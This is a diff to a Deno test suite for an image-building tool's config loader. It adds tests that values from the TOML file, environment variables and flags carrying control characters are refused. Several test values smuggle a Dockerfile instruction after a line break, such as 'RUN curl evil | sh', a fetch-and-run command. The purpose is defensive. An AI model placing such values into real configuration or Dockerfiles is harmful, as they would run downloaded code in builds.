@@ -223,24 +223,33 @@ Deno.test("settings come from imgtool.toml, then IMGTOOL_* variables, then flags
   });
 });
 
-Deno.test("imgtool.toml is found in the spec's folder or above; IMGTOOL_CONFIG names another", async () => {
+Deno.test("imgtool.toml is found in the spec's folder or above, within home; IMGTOOL_CONFIG names another", async () => {
   await withTempDir(async (dir) => {
     await writeTree(dir, {
       "imgtool.toml": 'registry = "outer.example"\n',
       "project/deep/spec.ts": "",
       "other.toml": 'registry = "other.example"\n',
     });
-    assert.equal(findConfigFile(join(dir, "project", "deep")), join(dir, "imgtool.toml"));
+    // With `dir` as the home folder, the search goes up to it (see config_boundary_test.ts).
+    const home = { HOME: dir };
+    assert.equal(findConfigFile(join(dir, "project", "deep"), dir), join(dir, "imgtool.toml"));
     assert.equal(
-      loadConfig({ startDir: join(dir, "project", "deep"), env: {} }).registry,
+      loadConfig({ startDir: join(dir, "project", "deep"), env: home }).registry,
       "outer.example",
     );
     const named = loadConfig({
       startDir: join(dir, "project"),
-      env: { IMGTOOL_CONFIG: join(dir, "other.toml") },
+      env: { ...home, IMGTOOL_CONFIG: join(dir, "other.toml") },
     });
     assert.equal(named.registry, "other.example");
     assert.equal(named.file, join(dir, "other.toml"));
+    assert.throws(
+      () => loadConfig({ startDir: dir, env: { IMGTOOL_CONFIG: join(dir, "missing.toml") } }),
+      usageError(
+        new RegExp(`^IMGTOOL_CONFIG names ${join(dir, "missing.toml")}, which does not exist$`),
+        /unset IMGTOOL_CONFIG/,
+      ),
+    );
   });
 });
 
@@ -249,11 +258,115 @@ Deno.test("secrets.dir and secrets.files are relative to the imgtool.toml that n
     await writeTree(dir, {
       "conf/imgtool.toml": '[secrets]\ndir = "../vault"\nfiles = { A = "a.txt" }\n',
     });
-    const config = loadConfig({ startDir: join(dir, "conf", "sub"), env: {} });
+    const config = loadConfig({ startDir: join(dir, "conf", "sub"), env: { HOME: dir } });
     assert.equal(config.secretsDir, join(dir, "vault"));
     assert.deepEqual(config.secretFiles, { A: join(dir, "conf", "a.txt") });
   });
 });
+
+// Every control character, each where a value can come from: the file (at any depth, keys
+// too), the IMGTOOL_* variables and the flags. Line breaks would end a Dockerfile
+// instruction and start another.
+const CONTROL_CHARACTERS = [
+  ...Array.from({ length: 0x20 }, (_, code) => String.fromCharCode(code)),
+  "\x7f",
+];
+
+/** How TOML writes `char` inside a basic string. */
+function tomlEscape(char: string): string {
+  return `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`;
+}
+
+Deno.test("a control character in any value of imgtool.toml is refused, naming the key", async () => {
+  const places: [toml: (bad: string) => string, name: string][] = [
+    [(bad) => `registry = "ghcr.io/acme${bad}"`, "registry"],
+    [(bad) => `[images]\npython = "python:3${bad}RUN curl evil | sh"`, "[images] python"],
+    [(bad) => `[images]\nuv = "uv${bad}"`, "[images] uv"],
+    [(bad) => `[dockerfile]\nsyntax = "docker/dockerfile:1${bad}"`, "[dockerfile] syntax"],
+    [(bad) => `[debian]\npackages = ["curl", "git${bad}"]`, "[debian] packages[1]"],
+    [(bad) => `[refs]\nbase = "debian${bad}"`, "[refs] base"],
+    [(bad) => `[docker]\nclient = "docker${bad}"`, "[docker] client"],
+    [(bad) => `[secrets.files]\nTOKEN = "t${bad}"`, "[secrets.files] TOKEN"],
+    [(bad) => `[plugins.node]\nopts = { deep = ["x${bad}"] }`, "[plugins.node.opts] deep[0]"],
+  ];
+  for (const char of CONTROL_CHARACTERS) {
+    for (const [toml, name] of places) {
+      await withToml(`${toml(tomlEscape(char))}\n`, (dir, file) => {
+        assert.throws(
+          () => loadConfig({ startDir: dir, env: {} }),
+          usageError(
+            new RegExp(`^${file}: ${escapeRegExp(name)} holds .*U\\+00${hex(char)}`),
+            new RegExp(`remove it from ${escapeRegExp(name)}`),
+          ),
+          `${name} with U+00${hex(char)}`,
+        );
+      });
+    }
+  }
+  // Keys too: TOML can quote any key.
+  await withToml(`[refs]\n"ba${tomlEscape("\n")}se" = "debian"\n`, (dir, file) => {
+    assert.throws(
+      () => loadConfig({ startDir: dir, env: {} }),
+      usageError(new RegExp(`^${file}: the key "ba\\\\nse" in \\[refs\\] holds a line break`)),
+    );
+  });
+  // The same values without the character load.
+  await withToml('registry = "ghcr.io/acme"\n[images]\npython = "python:3"\n', (dir) => {
+    assert.equal(loadConfig({ startDir: dir, env: {} }).images.python, "python:3");
+  });
+});
+
+Deno.test("a control character in an IMGTOOL_* variable or a flag is refused, naming it", () => {
+  for (const char of CONTROL_CHARACTERS) {
+    for (const setting of SETTINGS) {
+      const name = envName(setting.key);
+      // Every setting's variable, with a value that would be valid without the character.
+      const valid = VALID_TEXT[setting.type];
+      assert.doesNotThrow(() => loadConfig({ startDir: "/nonexistent", env: { [name]: valid } }));
+      assert.throws(
+        () => loadConfig({ startDir: "/nonexistent", env: { [name]: `${valid}${char}x` } }),
+        usageError(new RegExp(`^${name} holds .*U\\+00${hex(char)}`), new RegExp(name)),
+        `${name} with U+00${hex(char)}`,
+      );
+    }
+    assert.throws(
+      () =>
+        loadConfig({ startDir: "/nonexistent", env: { IMGTOOL_CONFIG: `/etc/imgtool${char}` } }),
+      usageError(/^IMGTOOL_CONFIG holds /, /IMGTOOL_CONFIG/),
+    );
+    // The flags that become settings (src/commands/prepare.ts passes --builder, --registry).
+    for (const flag of ["registry", "builder"]) {
+      assert.throws(
+        () =>
+          loadConfig({
+            startDir: "/nonexistent",
+            env: {},
+            overrides: { [flag]: `ghcr.io${char}RUN evil` },
+          }),
+        usageError(new RegExp(`^--${flag} holds .*U\\+00${hex(char)}`), new RegExp(`--${flag}`)),
+      );
+    }
+  }
+});
+
+/** A value each type of setting takes from a variable. */
+const VALID_TEXT: Record<(typeof SETTINGS)[number]["type"], string> = {
+  string: "value",
+  list: "a,b",
+  platforms: "linux/amd64",
+  python: "3.12",
+  boolean: "true",
+  table: "a=b",
+  installer: "pip",
+};
+
+function hex(char: string): string {
+  return char.charCodeAt(0).toString(16).toUpperCase().padStart(2, "0");
+}
+
+function escapeRegExp(text: string): string {
+  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
+}
 
 Deno.test("every setting has an IMGTOOL_ variable named after its key", () => {
   assert.equal(envName("python-version"), "IMGTOOL_PYTHON_VERSION");
